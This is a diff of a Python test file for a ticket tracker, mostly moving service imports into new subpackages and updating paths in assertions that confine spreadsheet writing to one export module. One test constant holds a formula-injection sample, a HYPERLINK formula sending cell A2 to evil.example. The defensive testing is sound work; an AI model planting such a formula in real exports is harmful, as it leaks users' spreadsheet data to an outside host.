@@ -23,9 +23,10 @@ from tests.factories import T0, make_ticket
 from tracker.domain.rectification import Source
 from tracker.domain.workflow import Status
 from tracker.extensions import db
-from tracker.services import importer, weekly
-from tracker.services import rectification as rectification_service
-from tracker.services import tickets as ticket_service
+from tracker.services.insight import weekly
+from tracker.services.ledger import rectification as rectification_service
+from tracker.services.requests import importer
+from tracker.services.requests import tickets as ticket_service
 
 # What users and administrators typed (OWASP's examples, a full-width sign).
 TITLE = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
@@ -134,18 +135,18 @@ EXPORT_SUFFIX = re.compile(r"\.(csv|xlsx|<fmt>)$")
 def test_every_export_route_is_checked_here(app):
     routes = {rule.endpoint for rule in app.url_map.iter_rules()
               if "GET" in rule.methods and (EXPORT_SUFFIX.search(rule.rule) or "export" in rule.endpoint)}
-    assert routes == set(EXPORTS), "a new export: add it to EXPORTS, written through tracker.services.exports"
+    assert routes == set(EXPORTS), "a new export: add it to EXPORTS, written through tracker.services.insight.exports"
 
 
 def test_only_the_export_writer_writes_spreadsheets():
-    """No second path: csv writers and openpyxl workbooks are made in tracker/services/exports.py only."""
+    """No second path: csv writers and openpyxl workbooks are made in tracker/services/insight/exports.py only."""
     from pathlib import Path
 
     root = Path(__file__).resolve().parents[2]
     writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|WriteOnlyCell|\.to_csv\(|\bxlsxwriter\b")
     found = sorted(str(path.relative_to(root)) for folder in ("tracker", "workers")
                    for path in (root / folder).rglob("*.py") if writers.search(path.read_text(encoding="utf-8")))
-    assert found == ["tracker/services/exports.py"]
+    assert found == ["tracker/services/insight/exports.py"]
 
 
 def _table(response) -> list[list]:
